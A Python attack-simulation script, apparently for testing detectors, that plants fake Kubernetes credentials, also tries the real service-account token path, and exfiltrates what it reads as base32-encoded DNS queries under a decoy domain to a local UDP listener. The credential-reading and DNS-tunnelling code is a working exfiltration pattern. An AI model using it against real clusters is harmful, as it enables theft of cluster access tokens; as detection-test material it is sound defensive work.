# technique: T1552.001 T1528 T1048
"""Unsecured Credentials (T1552.001) and Steal Application Access Token
(T1528): a Kubernetes config and service-account token, exfiltrated as
DNS queries (Exfiltration Over Alternative Protocol, T1048).

Plants a fake ~/.kube/config and a fake service-account token tree under
HOME (…/var/run/secrets/kubernetes.io/serviceaccount/token), also tries
the real /var/run/secrets path (absent outside a pod), reads them, encodes
the bytes as base32 labels under a fake domain and sends each as a DNS
query packet built by hand over UDP to a "resolver" listening on
127.0.0.1:0 in this script (no system resolver is used).

A good detector raises a high alert: a program reads Kubernetes
credentials, then emits many UDP datagrams with encoded payloads.
"""
import os as _os, pwd as _pwd, sys as _sys  # noqa: E401 (safety guard, not part of the attack)
if _os.path.realpath(_os.path.expanduser("~")) == _os.path.realpath(_pwd.getpwuid(_os.getuid()).pw_dir):
    _sys.exit("this attack writes under HOME: run it with HOME set to a scratch directory")
import base64
import os
import socket
import struct

home = os.path.expanduser("~")
sa = os.path.join(home, "var", "run", "secrets", "kubernetes.io", "serviceaccount")
os.makedirs(sa, exist_ok=True)
os.makedirs(os.path.join(home, ".kube"), exist_ok=True)
with open(os.path.join(sa, "token"), "w") as f:
    f.write("eyJhbGciOiJSUzI1NiIsImtpZCI6ImZha2UifQ.eyJzdWIiOiJzeXN0ZW06ZmFrZSJ9.fake")
with open(os.path.join(home, ".kube", "config"), "w") as f:
    f.write("apiVersion: v1\nusers:\n- name: admin\n  user:\n    token: fake-bearer-token\n")

loot = b""
for path in ("/var/run/secrets/kubernetes.io/serviceaccount/token",
             os.path.join(sa, "token"), os.path.join(home, ".kube", "config")):
    try:
        with open(path, "rb") as f:
            loot += f.read()
    except OSError:
        pass

resolver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
resolver.bind(("127.0.0.1", 0))
resolver.settimeout(2)
client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
encoded = base64.b32encode(loot).decode().rstrip("=").lower()
chunks = [encoded[i:i + 60] for i in range(0, len(encoded), 60)]
for n, label in enumerate(chunks):
    qname = b"".join(bytes([len(p)]) + p.encode() for p in (label, f"s{n}", "cdn-metrics", "net")) + b"\0"
    packet = struct.pack("!HHHHHH", n, 0x0100, 1, 0, 0, 0) + qname + struct.pack("!HH", 16, 1)
    client.sendto(packet, resolver.getsockname())
    resolver.recvfrom(512)
print(len(chunks), "queries sent")
